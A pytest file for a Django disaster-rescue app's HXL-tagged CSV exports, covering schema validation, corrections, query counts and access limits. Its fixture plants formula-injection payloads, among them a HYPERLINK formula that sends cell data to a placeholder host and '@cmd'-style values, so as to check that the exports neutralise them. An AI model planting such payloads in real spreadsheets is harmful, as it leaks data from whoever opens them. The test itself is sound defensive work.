"""HXL out, judged by libhxl with our schemas; and what a spreadsheet must never be made to do."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation

from honghui.kernel import clock
from honghui.kernel.actors import Actor
from honghui.registry.models import Society
from honghui.rescue.actions import incidents, needs
from honghui.rescue.actions.situation import report_situation
from honghui.rescue.exporting.sheets import harmless
from honghui.rescue.models import Incident, Mission, Team, TeamKind
from honghui.rescue.rules.situation import Figure
from honghui.rescue.words.places import Place

NOON = datetime(2020, 6, 23, 12, 0, tzinfo=clock.CHINA)
SCHEMAS = Path(__file__).parent / "hxl"
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1)'


@pytest.fixture
def incident(system: Actor, shaoxing: Society) -> Incident:
    found = incidents.open_incident(
        by=system, society=shaoxing, cause="explosion", known_at=NOON, title=FORMULA,
        place=Place("331081", "+8613900000000", "", 28_451_200, 121_410_300),
        requester="police", requester_name="@cmd",
    )  # fmt: skip
    incidents.set_level(by=system, incident=found, level=4, reason="省红十字会通知。")
    first = report_situation(
        by=system, incident=found, as_of=NOON, source="-1+1|cmd",
        figures=[Figure("injured", 172, "person", "over"), Figure("missing", None, "person")],
    )  # fmt: skip
    report_situation(
        by=system, incident=found, as_of=NOON, source="温岭市应急管理局", corrects=first,
        reason="来源写错了。",
        figures=[Figure("injured", 172, "person"), Figure("crops", 300, "mu", "about")],
    )  # fmt: skip
    needs.tell_need(by=system, incident=found, what="#affected", value=20, unit="person")
    kind = TeamKind.objects.get_or_create(
        code="search", defaults={"name": "搜救", "name_en": "Search", "source": "样例"}
    )[0]
    for number, people in enumerate((92, 50, None)):
        team = Team.objects.create(
            code=f"hxl-{number}", society=shaoxing, kind=kind, name=f"样例队{number}"
        )
        Mission.objects.create(
            incident=found, team=team, state="there", requester="own", opened_at=NOON,
            people=people,
        )  # fmt: skip
    return found


def fetched(client: Client, address: str) -> bytes:
    answer = client.get(address)
    assert answer.status_code == 200
    return answer.content


def addresses(incident: Incident) -> dict[str, str]:
    return {
        "incidents": reverse("incidents_csv"),
        "situation": reverse("incident_situation_csv", args=[incident.pk]),
        "needs": reverse("incident_needs_csv", args=[incident.pk]),
    }


@pytest.mark.filterwarnings("ignore")
@pytest.mark.parametrize("name", ["incidents", "situation", "needs"])
@pytest.mark.parametrize("language", ["", "/en"])
def test_somebody_elses_validator_finds_nothing_wrong(
    sign_in: Callable[[str], Client], incident: Incident, name: str, language: str
) -> None:
    import hxl

    data = fetched(sign_in("officer"), language + addresses(incident)[name])
    wrong = []
    options = hxl.InputOptions(allow_local=True)
    schema = hxl.schema(
        hxl.data(io.BytesIO((SCHEMAS / f"{name}.csv").read_bytes()), options), wrong.append
    )
    source = hxl.data(io.BytesIO(data), options)
    assert schema.validate(source), [error.message for error in wrong]
    assert {column.tag for column in source.columns} >= {"#event", "#meta"}


@pytest.mark.filterwarnings("ignore")
def test_the_validator_can_say_no(sign_in: Callable[[str], Client], incident: Incident) -> None:
    import hxl

    data = fetched(sign_in("officer"), addresses(incident)["situation"])
    broken = data.replace(b",172,", b",many,")
    assert broken != data
    options = hxl.InputOptions(allow_local=True)
    schema = hxl.schema(
        hxl.data(io.BytesIO((SCHEMAS / "situation.csv").read_bytes()), options), lambda _: None
    )
    assert not schema.validate(hxl.data(io.BytesIO(broken), options))


def rows_of(data: bytes) -> list[dict[str, str]]:
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    return [dict(zip(lines[1], line, strict=True)) for line in lines[2:]]


def test_who_does_what_where_a_row_a_team(
    sign_in: Callable[[str], Client], incident: Incident
) -> None:
    data = fetched(sign_in("officer"), addresses(incident)["incidents"])
    rows = [row for row in rows_of(data) if row["#event+code"] == incident.number]
    assert [row["#org+team+name"] for row in rows] == ["样例队0", "样例队1", "样例队2"]
    assert [row["#capacity+people+num"] for row in rows] == ["92", "50", ""]
    assert {row["#adm3+name"] for row in rows} == {"温岭市"}
    assert {row["#severity+level+num"] for row in rows} == {"4"}


def test_a_figure_that_was_corrected_says_by_which(
    sign_in: Callable[[str], Client], incident: Incident
) -> None:
    data = fetched(sign_in("officer"), addresses(incident)["situation"])
    found = [
        (row["#indicator+code"], row["#indicator+value+num"], row["#meta+corrected_by"])
        for row in rows_of(data)
    ]
    assert sorted(found) == [
        ("crops", "300", ""), ("injured", "172", ""), ("injured", "172", "2"),
        ("missing", "", "2"),
    ]  # fmt: skip


def test_no_cell_is_a_formula_and_nobody_who_called_is_named(
    sign_in: Callable[[str], Client], incident: Incident
) -> None:
    client = sign_in("officer")
    for address in addresses(incident).values():
        data = fetched(client, address)
        lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        cells = [cell for place, line in enumerate(lines) if place != 1 for cell in line]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "#"))]
        assert "@cmd" not in data.decode()
    assert harmless("=1") == "'=1" and harmless("温岭") == "温岭"


def test_the_sheet_of_all_incidents_costs_few_queries(
    sign_in: Callable[[str], Client], incident: Incident, system: Actor, shaoxing: Society
) -> None:
    for _ in range(20):
        incidents.open_incident(by=system, society=shaoxing, cause="fire", place=Place("330681"))
    client = sign_in("officer")
    client.get(reverse("incidents_csv"))
    with CaptureQueriesContext(connection) as queries:
        fetched(client, reverse("incidents_csv"))
    assert len(queries) <= 7


def test_another_societys_incident_is_in_nobodys_sheet(
    sign_in: Callable[[str], Client], incident: Incident
) -> None:
    client = sign_in("team-leader")
    assert incident.number not in fetched(client, reverse("incidents_csv")).decode()
    assert client.get(addresses(incident)["needs"]).status_code == 404
    with translation.override("en"):
        assert client.get(addresses(incident)["situation"]).status_code == 404
